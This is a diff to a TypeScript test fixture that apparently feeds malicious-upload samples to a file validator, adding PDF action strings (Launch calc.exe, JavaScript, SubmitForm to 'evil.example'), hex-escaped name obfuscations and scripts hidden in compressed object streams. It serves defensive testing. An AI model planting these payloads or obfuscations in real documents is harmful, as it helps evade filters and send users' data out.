@@ -1,5 +1,5 @@
 import type { SomeUpload } from './good-uploads.ts'
-import { aJpeg, aPdf, aPicture, aPng, pixelBomb } from './pictures.ts'
+import { aJpeg, aPdf, aPdfOfObjects, aPicture, aPng, pixelBomb } from './pictures.ts'
 
 const zip = Buffer.from('504b0304140000000800504b0506000000000000000000000000000000000000000000', 'hex')
 const script = '<script>alert(document.domain)</script>'
@@ -116,6 +116,19 @@ function polyglots(jpeg: Buffer, png: Buffer, pdf: Buffer): SomeUpload[] {
     '/OpenAction<</S/Launch/F(calc.exe)>>',
     '/Names<</EmbeddedFile 9 0 R>>',
     '/AA<</O<</JS 4 0 R>>>>',
+    '/Names<</EmbeddedFiles 9 0 R>>',
+    '/A<</S/GoToR/F(other.pdf)>>',
+    '/A<</S/GoToE/T<</R/C>>>>',
+    '/A<</S/SubmitForm/F(https://evil.example/)>>',
+    '/A<</S/ImportData/F(x.fdf)>>',
+    '/A<</S/Java#53cript/J#53(app.alert(1))>>',
+    '/A<</S/#4a#61vaScript>>',
+    '/A<</S/#4A#61vaScript>>',
+    '/A<</S/L#61unch/F(calc.exe)>>',
+    '/OpenAction 9 0 R',
+    '/#4fpenAction<</S/Named>>',
+    '/AA 4 0 R',
+    '/AcroForm<</XFA[(x)4 0 R]>>',
   ]
   return [
     ...both,
@@ -133,6 +146,18 @@ function polyglots(jpeg: Buffer, png: Buffer, pdf: Buffer): SomeUpload[] {
       bytes: Buffer.from(`%PDF-1.7\n${script}\n%%EOF`),
     },
     { why: 'a PDF without an end', name: 'x.pdf', type: 'application/pdf', bytes: pdf.subarray(0, -8) },
+    {
+      why: 'a PDF whose compressed objects hold a script',
+      name: 'x.pdf',
+      type: 'application/pdf',
+      bytes: aPdfOfObjects('<</S/JavaScript/JS(app.alert(1))>>'),
+    },
+    {
+      why: 'a PDF whose compressed objects are no such',
+      name: 'x.pdf',
+      type: 'application/pdf',
+      bytes: aPdf('>>endobj\n9 0 obj<</Type/Obj#53tm/Length 3>>stream\nabc\nendstream endobj<<'),
+    },
     ...acts.map((act) => ({
       why: `a PDF with ${act}`,
       name: 'x.pdf',
